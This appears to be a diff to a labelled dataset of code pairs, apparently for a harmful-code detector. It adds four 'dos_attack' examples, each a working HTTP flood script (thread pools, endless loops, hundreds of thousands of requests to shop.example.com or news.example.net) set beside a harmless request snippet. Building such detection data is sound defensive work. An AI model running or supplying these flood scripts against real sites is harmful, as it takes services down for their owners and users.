@@ -138,6 +138,28 @@ PAIRS = [
      "asyncio.run(asyncio.start_server(handle, '0.0.0.0', 8080))",
      "import asyncio\nasync def handle(r, w):\n    w.write((await r.readline()).upper())\n"
      "asyncio.run(asyncio.start_server(handle, '127.0.0.1', 8080))"),
+    ("flood: request function handed to a pool", "dos_attack",
+     "from concurrent.futures import ThreadPoolExecutor\nimport requests\nwith ThreadPoolExecutor(max_workers=800) as ex:\n"
+     "    for _ in range(500000):\n        ex.submit(requests.get, 'https://shop.example.com/')",
+     "from concurrent.futures import ThreadPoolExecutor\nimport requests\nwith ThreadPoolExecutor(8) as ex:\n"
+     "    futs = [ex.submit(requests.get, u) for u in urls]\nfor f in futs:\n    print(f.result().status_code)"),
+    ("flood: one URL mapped a thousand times", "dos_attack",
+     "from multiprocessing.pool import ThreadPool\nimport requests\n"
+     "ThreadPool(300).map(requests.post, ['http://news.example.net/comment'] * 20000)",
+     "from multiprocessing.pool import ThreadPool\nimport requests\n"
+     "pages = ThreadPool(16).map(requests.get, [f'https://example.org/p/{i}' for i in range(400)])"),
+    ("flood: gathered requests, answers unread", "dos_attack",
+     "import asyncio, aiohttp\nasync def main(url):\n    async with aiohttp.ClientSession() as s:\n        while True:\n"
+     "            batch = [s.get(url) for _ in range(1000)]\n            await asyncio.gather(*batch, return_exceptions=True)\n"
+     "asyncio.run(main('https://shop.example.com'))",
+     "import asyncio, aiohttp\nasync def main(url):\n    async with aiohttp.ClientSession() as s:\n"
+     "        replies = await asyncio.gather(*[s.get(url) for _ in range(5)])\n        print([r.status for r in replies])\n"
+     "asyncio.run(main('https://api.example.org/health'))"),
+    ("flood: http.client connections from threads", "dos_attack",
+     "import http.client, threading\ndef hit():\n    while True:\n        c = http.client.HTTPConnection('shop.example.com')\n"
+     "        c.request('GET', '/')\nfor _ in range(200):\n    threading.Thread(target=hit).start()",
+     "import http.client\nc = http.client.HTTPSConnection('api.example.org')\nc.request('GET', '/v1/items')\n"
+     "print(c.getresponse().read())"),
 ]
 
 
